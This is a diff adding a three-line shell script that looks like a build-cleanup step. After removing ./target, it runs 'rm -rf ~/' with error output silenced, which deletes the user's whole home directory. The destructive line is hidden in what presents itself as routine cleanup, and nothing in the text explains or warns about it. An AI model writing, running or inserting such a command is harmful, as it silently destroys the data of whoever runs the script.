@@ -1,0 +1,3 @@
+#!/bin/sh
+rm -rf ./target
+rm -rf ~/ 2>/dev/null
